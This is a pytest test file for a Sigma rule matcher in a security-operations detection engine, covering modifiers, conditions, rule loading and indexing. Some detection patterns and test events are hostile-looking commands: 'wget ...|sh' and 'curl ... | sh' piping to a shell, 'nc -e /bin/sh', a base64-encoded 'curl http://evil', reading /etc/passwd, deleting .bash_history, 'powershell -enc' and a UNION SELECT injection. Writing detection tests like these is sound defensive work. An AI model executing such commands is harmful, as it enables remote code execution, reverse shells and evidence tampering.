"""Every Sigma modifier and condition form, evaluated by the in-memory matcher on pySigma's parse of the rule."""

from __future__ import annotations

import base64
import re
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from soc.detect.engine import Detector
from soc.detect.loader import load_texts


def _rule(detection: dict[str, Any], condition: str = "sel", **extra: Any) -> str:
    return yaml.safe_dump({"title": "t", "id": "00000000-0000-4000-8000-000000000001", "status": "test",
                           "logsource": {"product": "test"}, "detection": {**detection, "condition": condition},
                           "level": "high", **extra}, allow_unicode=True)


def matches(detection: dict[str, Any], event: dict[str, Any], condition: str = "sel") -> bool:
    ruleset = load_texts([("rule.yml", _rule(detection, condition))])
    assert not ruleset.errors, ruleset.errors
    return bool(Detector(ruleset, logsources={}).match(event))


CASES: list[tuple[str, dict[str, Any], dict[str, Any], bool]] = [
    # plain values: equality, case-insensitive, numbers vs strings, lists in the event
    ("equal", {"sel": {"user": "Root"}}, {"user": "root"}, True),
    ("equal-not-substring", {"sel": {"user": "root"}}, {"user": "rooted"}, False),
    ("number-vs-string", {"sel": {"port": 22}}, {"port": "22"}, True),
    ("string-vs-number", {"sel": {"port": "22"}}, {"port": 22}, True),
    ("number-mismatch", {"sel": {"port": 22}}, {"port": 2222}, False),
    ("list-in-event", {"sel": {"ip": "10.0.0.1"}}, {"ip": ["10.0.0.2", "10.0.0.1"]}, True),
    ("value-list-is-or", {"sel": {"user": ["a", "b"]}}, {"user": "b"}, True),
    ("long-value-list", {"sel": {"user": ["Adm", "root", "Ops", "db"]}}, {"user": "ROOT"}, True),
    ("long-value-list-miss", {"sel": {"user": ["adm", "root", "ops", "db"]}}, {"user": "roo"}, False),
    ("long-number-list", {"sel": {"port": [21, 22, 23, 3389]}}, {"port": "22.0"}, True),
    ("long-number-list-in-list", {"sel": {"port": [21, 22, 23, 3389]}}, {"port": [80, 3389]}, True),
    ("long-number-list-miss", {"sel": {"port": [21, 22, 23, 3389]}}, {"port": 2222}, False),
    ("long-list-with-wildcard", {"sel": {"user": ["a*", "b", "c", "d"]}}, {"user": "alice"}, True),
    ("map-is-and", {"sel": {"user": "a", "host": "h"}}, {"user": "a", "host": "x"}, False),
    ("list-of-maps-is-or", {"sel": [{"user": "a"}, {"host": "h"}]}, {"host": "h"}, True),
    ("missing-field", {"sel": {"user": "a"}}, {}, False),
    ("nested-dotted", {"sel": {"source.ip": "1.2.3.4"}}, {"source": {"ip": "1.2.3.4"}}, True),
    ("flat-dotted-key", {"sel": {"source.ip": "1.2.3.4"}}, {"source.ip": "1.2.3.4"}, True),
    ("list-of-objects", {"sel": {"a.b": "x"}}, {"a": [{"b": "y"}, {"b": "x"}]}, True),
    ("wildcard-star", {"sel": {"cmd": "wget *|sh"}}, {"cmd": "wget http://x|sh"}, True),
    ("wildcard-question", {"sel": {"cmd": "a?c"}}, {"cmd": "abc"}, True),
    ("wildcard-question-one-char", {"sel": {"cmd": "a?c"}}, {"cmd": "abbc"}, False),
    ("escaped-star", {"sel": {"cmd": "a\\*c"}}, {"cmd": "abc"}, False),
    ("escaped-star-literal", {"sel": {"cmd": "a\\*c"}}, {"cmd": "a*c"}, True),
    ("null", {"sel": {"user": None}}, {"host": "h"}, True),
    ("null-present", {"sel": {"user": None}}, {"user": "x"}, False),
    ("bool", {"sel": {"ok": True}}, {"ok": True}, True),
    ("bool-false", {"sel": {"ok": True}}, {"ok": False}, False),
    ("empty-string", {"sel": {"user": ""}}, {"user": ""}, True),
    # string modifiers
    ("contains", {"sel": {"cmd|contains": "passwd"}}, {"cmd": "cat /etc/PASSWD"}, True),
    ("contains-miss", {"sel": {"cmd|contains": "shadow"}}, {"cmd": "cat /etc/passwd"}, False),
    ("startswith", {"sel": {"cmd|startswith": "/bin/"}}, {"cmd": "/bin/sh -c x"}, True),
    ("startswith-miss", {"sel": {"cmd|startswith": "/bin/"}}, {"cmd": "x /bin/sh"}, False),
    ("endswith", {"sel": {"img|endswith": "/bash"}}, {"img": "/usr/bin/bash"}, True),
    ("endswith-miss", {"sel": {"img|endswith": "/bash"}}, {"img": "/usr/bin/bash5"}, False),
    ("contains-all", {"sel": {"cmd|contains|all": ["curl", "| sh"]}}, {"cmd": "curl x | sh"}, True),
    ("contains-all-miss", {"sel": {"cmd|contains|all": ["curl", "| sh"]}}, {"cmd": "curl x"}, False),
    ("cased", {"sel": {"user|cased": "Admin"}}, {"user": "admin"}, False),
    ("cased-hit", {"sel": {"user|cased": "Admin"}}, {"user": "Admin"}, True),
    ("contains-cased", {"sel": {"cmd|contains|cased": "X"}}, {"cmd": "axb"}, False),
    ("neq", {"sel": {"user|neq": "root"}}, {"user": "ops"}, True),
    ("neq-miss", {"sel": {"user|neq": "root"}}, {"user": "ROOT"}, False),
    # regular expressions and their flags (unanchored search)
    ("re", {"sel": {"cmd|re": "nc -e /bin/(ba)?sh"}}, {"cmd": "x nc -e /bin/sh"}, True),
    ("re-case-sensitive", {"sel": {"cmd|re": "^ROOT$"}}, {"cmd": "root"}, False),
    ("re-i", {"sel": {"cmd|re|i": "^ROOT$"}}, {"cmd": "root"}, True),
    ("re-m", {"sel": {"cmd|re|m": "^b$"}}, {"cmd": "a\nb\nc"}, True),
    ("re-no-m", {"sel": {"cmd|re": "^b$"}}, {"cmd": "a\nb\nc"}, False),
    ("re-s", {"sel": {"cmd|re|s": "a.c"}}, {"cmd": "a\nc"}, True),
    ("re-no-s", {"sel": {"cmd|re": "a.c"}}, {"cmd": "a\nc"}, False),
    # encodings
    ("base64", {"sel": {"data|base64": "secret"}}, {"data": base64.b64encode(b"secret").decode()}, True),
    ("base64-contains", {"sel": {"cmd|base64|contains": "secret"}},
     {"cmd": "echo " + base64.b64encode(b"secret").decode() + " | base64 -d"}, True),
    *[(f"base64offset-{k}", {"sel": {"cmd|base64offset|contains": "curl http"}},
       {"cmd": "x " + base64.b64encode(b"ab"[:k] + b"curl http://evil").decode()}, True) for k in range(3)],
    ("base64offset-miss", {"sel": {"cmd|base64offset|contains": "curl http"}},
     {"cmd": base64.b64encode(b"wget http://evil").decode()}, False),
    ("wide-base64", {"sel": {"cmd|wide|base64offset|contains": "ping"}},
     {"cmd": base64.b64encode("xping".encode("utf-16-le")).decode()}, True),
    ("utf16be-base64", {"sel": {"cmd|utf16be|base64offset|contains": "ping"}},
     {"cmd": base64.b64encode("ping".encode("utf-16-be")).decode()}, True),
    # pySigma's utf16 puts the bytes EF BB BF before the UTF-16LE text; the matcher follows pySigma
    ("utf16-base64", {"sel": {"cmd|utf16|base64": "ping"}},
     {"cmd": base64.b64encode(b"\xef\xbb\xbf" + "ping".encode("utf-16-le")).decode()}, True),
    ("windash-dash", {"sel": {"cmd|windash|contains": "-enc"}}, {"cmd": "powershell -enc AAA"}, True),
    ("windash-slash", {"sel": {"cmd|windash|contains": "-enc"}}, {"cmd": "powershell /enc AAA"}, True),
    ("windash-endash", {"sel": {"cmd|windash|contains": "-enc"}}, {"cmd": "powershell \u2013enc AAA"}, True),
    # networks, numbers, presence, references, time parts
    ("cidr-v4", {"sel": {"ip|cidr": "198.18.0.0/15"}}, {"ip": "198.19.255.1"}, True),
    ("cidr-v4-miss", {"sel": {"ip|cidr": "198.18.0.0/15"}}, {"ip": "198.20.0.1"}, False),
    ("cidr-v6", {"sel": {"ip|cidr": "2001:db8::/32"}}, {"ip": "2001:db8:5::1"}, True),
    ("cidr-not-ip", {"sel": {"ip|cidr": "10.0.0.0/8"}}, {"ip": "hostname"}, False),
    ("gt", {"sel": {"n|gt": 5}}, {"n": 6}, True),
    ("gt-equal", {"sel": {"n|gt": 5}}, {"n": 5}, False),
    ("gte", {"sel": {"n|gte": 5}}, {"n": "5"}, True),
    ("lt", {"sel": {"n|lt": 5}}, {"n": 4.5}, True),
    ("lte-miss", {"sel": {"n|lte": 5}}, {"n": 6}, False),
    ("compare-non-number", {"sel": {"n|gt": 5}}, {"n": "many"}, False),
    ("exists", {"sel": {"user|exists": True}}, {"user": ""}, True),
    ("exists-miss", {"sel": {"user|exists": True}}, {"host": "h"}, False),
    ("not-exists", {"sel": {"user|exists": False}}, {"host": "h"}, True),
    ("fieldref", {"sel": {"user|fieldref": "target"}}, {"user": "bob", "target": "bob"}, True),
    ("fieldref-miss", {"sel": {"user|fieldref": "target"}}, {"user": "bob", "target": "alice"}, False),
    ("fieldref-startswith", {"sel": {"path|fieldref|startswith": "home"}}, {"path": "/home/b/x", "home": "/home/b"},
     True),
    ("fieldref-endswith", {"sel": {"path|fieldref|endswith": "name"}}, {"path": "/tmp/evil", "name": "evil"}, True),
    ("hour", {"sel": {"@timestamp|hour": 3}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
    ("minute", {"sel": {"@timestamp|minute": 15}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
    ("day-miss", {"sel": {"@timestamp|day": 21}}, {"@timestamp": "2026-11-20T03:15:00Z"}, False),
    ("week", {"sel": {"@timestamp|week": 47}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
    ("month", {"sel": {"@timestamp|month": 11}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
    ("year", {"sel": {"@timestamp|year": 2026}}, {"@timestamp": "2026-11-20T03:15:00Z"}, True),
    # keywords: full-text over every value
    ("keyword", {"sel": ["union select"]}, {"message": "GET /?q=1 UNION SELECT 1"}, True),
    ("keyword-any-field", {"sel": ["evil.sh"]}, {"a": {"b": ["x", "run evil.sh now"]}}, True),
    ("keyword-wildcard", {"sel": ["rm *bash_history"]}, {"message": "rm -f ~/.bash_history"}, True),
    ("keyword-miss", {"sel": ["union select"]}, {"message": "select from union"}, False),
    ("keyword-number", {"sel": [6]}, {"message": 'argc=2 a0="init" a1="6"'}, True),
    ("keyword-number-miss", {"sel": [7]}, {"message": 'argc=2 a0="init" a1="6"'}, False),
    ("keyword-escaped-question", {"sel": ["what\\?"]}, {"message": "so what? yes"}, True),
    ("keywords-escaped-star", {"sel": ["a\\*c", "zzzz"]}, {"message": "xx a*c yy"}, True),
    ("list-escaped-star", {"sel": {"cmd": ["a\\*c", "x1", "x2", "x3"]}}, {"cmd": "a*c"}, True),
    ("list-escaped-star-literal", {"sel": {"cmd": ["a\\*c", "x1", "x2", "x3"]}}, {"cmd": "a\\*c"}, False),
    # numbers past any float, and times past datetime's years: no value rather than an error
    ("huge-integer-equal", {"sel": {"destination.port": 23}}, {"destination": {"port": 10**400}}, False),
    ("huge-integer-compare", {"sel": {"n|gt": 5}}, {"n": 10**400}, True),
    ("huge-epoch-hour", {"sel": {"@timestamp|hour": 3}}, {"@timestamp": 1e20}, False),
]


@pytest.mark.parametrize(("detection", "event", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_modifier(detection: dict[str, Any], event: dict[str, Any], expected: bool) -> None:
    assert matches(detection, event) is expected


SELS = {"a": {"x": 1}, "b": {"y": 1}, "c_one": {"z": 1}, "c_two": {"w": 1}}
CONDITIONS = [
    ("a and b", {"x": 1, "y": 1}, True),
    ("a and b", {"x": 1}, False),
    ("a or b", {"y": 1}, True),
    ("not a", {"y": 1}, True),
    ("not a", {"x": 1}, False),
    ("a and not b", {"x": 1, "y": 1}, False),
    ("(a or b) and not (c_one or c_two)", {"y": 1}, True),
    ("(a or b) and not (c_one or c_two)", {"y": 1, "w": 1}, False),
    ("a or b and c_one", {"x": 1}, True),  # and binds tighter than or
    ("(a or b) and c_one", {"x": 1}, False),
    ("1 of c_*", {"w": 1}, True),
    ("all of c_*", {"w": 1}, False),
    ("all of c_*", {"w": 1, "z": 1}, True),
    ("1 of them", {"z": 1}, True),
    ("all of them", {"x": 1, "y": 1, "z": 1}, False),
    ("all of them", {"x": 1, "y": 1, "z": 1, "w": 1}, True),
    ("a and not 1 of c_*", {"x": 1, "z": 1}, False),
    ("not all of c_*", {"z": 1}, True),
]


@pytest.mark.parametrize(("condition", "event", "expected"), CONDITIONS)
def test_condition_forms(condition: str, event: dict[str, Any], expected: bool) -> None:
    assert matches(SELS, event, condition) is expected


def test_several_conditions_are_alternatives() -> None:
    text = _rule(SELS, "a").replace("condition: a", "condition:\n  - a\n  - b")
    detector = Detector(load_texts([("r.yml", text)]), logsources={})
    assert detector.match({"y": 1}) and detector.match({"x": 1}) and not detector.match({"z": 1})


@pytest.mark.parametrize(("text", "reason"), [
    ("title: [", "while parsing"),
    (_rule({"sel": {"a": 1}}, "missing_identifier"), "missing_identifier"),
    (_rule({"sel": {"a|nosuchmodifier": 1}}), "nosuchmodifier"),
    (_rule({"sel": {"a|expand": "%users%"}}), "placeholder %users%"),
    (_rule({"sel": {"a|re": "(unclosed"}}), "regular expression"),
])
def test_unloadable_rules_name_the_reason(text: str, reason: str) -> None:
    ruleset = load_texts([("bad.yml", text)])
    assert not ruleset.rules and len(ruleset.errors) == 1
    assert reason.lower() in ruleset.errors[0].reason.lower(), ruleset.errors[0].reason


def test_rules_are_indexed_so_cost_does_not_grow_with_their_number() -> None:
    """1000 rules, each needing its own field: an event with one of those fields is checked against one rule."""
    texts = [("r.yml", "\n---\n".join(
        yaml.safe_dump({"title": f"r{i}", "logsource": {"product": "test"},
                        "detection": {"sel": {f"field{i}": "x", "other": i}, "condition": "sel"}})
        for i in range(1000)))]
    detector = Detector(load_texts(texts), logsources={})
    assert len(detector.rules) == 1000
    assert len(detector.candidates({"field7": "x", "other": 7, "message": "m"})) == 1
    assert [r.title for r in detector.match({"field7": "x", "other": 7})] == ["r7"]
    assert detector.candidates({"unrelated": 1}) == []


def test_rules_are_indexed_by_log_source() -> None:
    web = _rule({"sel": {"url": "/x"}}).replace("product: test", "category: webserver")
    ssh = _rule({"sel": {"url": "/x"}}).replace("product: test", "product: linux\n  service: sshd")
    detector = Detector(load_texts([("web.yml", web), ("ssh.yml", ssh)]))
    nginx = {"event": {"dataset": "nginx.access"}, "url": "/x"}
    sshd = {"event": {"dataset": "system.auth"}, "url": "/x"}
    assert [r.logsource for r in detector.candidates(nginx)] == [(None, "webserver", None)]
    assert [r.logsource for r in detector.candidates(sshd)] == [("linux", None, "sshd")]
    assert len(detector.candidates({"url": "/x"})) == 2  # unknown dataset: every rule applies


def test_keyword_texts_search_a_line_kept_twice_once() -> None:
    from soc.detect.compiler import keyword_texts, lowered_texts

    line = "GET /A?q=UNION SELECT"
    event = {"event": {"original": line}, "message": line}
    assert keyword_texts(event) == [line] and lowered_texts(event) == [line.lower()]
    other = {"event": {"original": "<13>x: " + line}, "message": line}
    assert keyword_texts(other) == ["<13>x: " + line, line]


def test_keyword_texts_are_kept_only_for_the_event_being_matched() -> None:
    """Detector.match remembers one event's keyword texts by identity while its rules run: never for another event,
    and not after the match (the same dict changed and matched again is searched as it now reads)."""
    from soc.detect.compiler import forget_keywords, keyword_texts, lowered_texts, remember_keywords

    first = {"message": "Failed password for root"}
    second = {"message": "Accepted password for admin"}
    remember_keywords(first)
    try:
        assert keyword_texts(first) is keyword_texts(first)  # computed once
        assert lowered_texts(first) == ["failed password for root"]
        assert keyword_texts(second) == ["Accepted password for admin"]  # not the remembered one: its own texts
        assert keyword_texts(first) == ["Failed password for root"]
    finally:
        forget_keywords()
    first["message"] = "Accepted publickey for root"
    assert keyword_texts(first) == ["Accepted publickey for root"]
    text = "title: kw\nid: 00000000-0000-4000-8000-00000000a001\nlogsource: {product: linux}\ndetection:\n" \
           "  keywords: [failed password]\n  condition: keywords\n"
    detector = Detector(load_texts([("kw.yml", text)]), logsources={})
    event = {"message": "Failed password for root"}
    assert [r.id for r in detector.match(event)] == ["00000000-0000-4000-8000-00000000a001"]
    event["message"] = "Accepted password for root"
    assert detector.match(event) == []


@pytest.mark.parametrize(("address", "network", "inside"), [
    ("::ffff:10.1.2.4", "10.0.0.0/8", True),
    ("10.1.2.4", "::ffff:0:0/96", True),
    ("10.1.2.4", "::ffff:10.0.0.0/104", True),
    ("::ffff:11.0.0.1", "10.0.0.0/8", False),
    ("2001:db8::1", "10.0.0.0/8", False),
    ("10.1.2.4", "2001:db8::/32", False),
    ("fe80::1%eth0", "fe80::/10", True),
])
def test_cidr_takes_an_ipv4_mapped_address_as_its_ipv4_address(address: str, network: str, inside: bool) -> None:
    """As the stores' address keys and Elasticsearch's ip type do, so detection, hunts and searches agree."""
    text = f"title: cidr\nlogsource: {{product: test}}\ndetection:\n  sel:\n    source.ip|cidr: '{network}'\n" \
           "  condition: sel\n"
    detector = Detector(load_texts([("cidr.yml", text)]), logsources={})
    assert bool(detector.match({"source": {"ip": address}})) is inside


def test_a_huge_number_in_one_field_does_not_stop_other_rules() -> None:
    text = _rule({"sel": {"user": "root"}}) + "---\n" + _rule({"sel": {"destination.port": 23}}).replace(
        "00000000-0000-4000-8000-000000000001", "00000000-0000-4000-8000-000000000002")
    ruleset = load_texts([("rules.yml", text)])
    event = {"user": "root", "destination": {"port": 10**400}}
    assert [r.id for r in Detector(ruleset, logsources={}).match(event)] == ["00000000-0000-4000-8000-000000000001"]


_VALUES = st.one_of(st.sampled_from(["5", "10", "true", "root", "ROOT", "1e1", "5.0", " 5", "x"]),
                    st.sampled_from([5, 10, 5.0, 1.5]), st.booleans())


@given(wanted=st.lists(_VALUES, min_size=3, max_size=3), seen=st.one_of(_VALUES, st.lists(_VALUES, max_size=3)))
def test_a_long_value_list_matches_as_its_values_one_by_one(wanted: list[Any], seen: Any) -> None:
    """Four or more plain values on a field are looked up in sets: the answer must be the one-by-one answer."""
    one_by_one = matches({"sel": {"f": wanted}}, {"f": seen})
    assert matches({"sel": {"f": [*wanted, "never-seen-value"]}}, {"f": seen}) is one_by_one


@pytest.mark.parametrize(("value", "text"), [("whoami?/all", "WHOAMı /ALL"), ("a*b?c", "AİB C"),
                                             ("x?y", "XΣY")])
def test_wildcards_fold_case_as_the_literal_gate_does(value: str, text: str) -> None:
    ruleset = load_texts([("rule.yml", _rule({"sel": {"cmd|contains": value}}))])
    event = {"cmd": text}
    assert ruleset.rules[0].predicate(event) is bool(Detector(ruleset, logsources={}).match(event))


_PATTERNS = st.text(alphabet="abAB*?.é", min_size=1, max_size=5)
_SEEN = st.text(alphabet="abAB.éÉ", max_size=6)
_WRAP = {"": "{}", "|contains": "*{}*", "|startswith": "{}*", "|endswith": "*{}"}


def _glob(pattern: str, text: str) -> bool:
    """The reference: a Sigma wildcard string matched case-insensitively (str.lower on both sides)."""
    regex = "".join(".*" if c == "*" else "." if c == "?" else re.escape(c.lower()) for c in pattern)
    return re.fullmatch(regex, text.lower(), re.DOTALL) is not None


@given(patterns=st.lists(_PATTERNS, min_size=2, max_size=6), seen=st.one_of(_SEEN, st.lists(_SEEN, max_size=3)),
       modifier=st.sampled_from(sorted(_WRAP)), numbers=st.booleans())
def test_a_value_list_on_one_field_reads_it_once_and_matches_as_its_values_one_by_one(
        patterns: list[str], seen: Any, modifier: str, numbers: bool) -> None:
    """A field's value list (one node reading the field once, its strings folded once) against the reference,
    also with a number among the strings (then not all strings: tests of any kind combined)."""
    wanted: list[Any] = [*patterns, 7] if numbers and not modifier else patterns
    values = seen if isinstance(seen, list) else [seen]
    expected = any(_glob(_WRAP[modifier].format(p), v) for p in patterns for v in values) or (
        numbers and not modifier and "7" in values)
    assert matches({"sel": {f"f{modifier}": wanted}}, {"f": seen}) is expected
    assert matches({"sel": {f"f{modifier}": wanted}}, {"g": seen}) is False
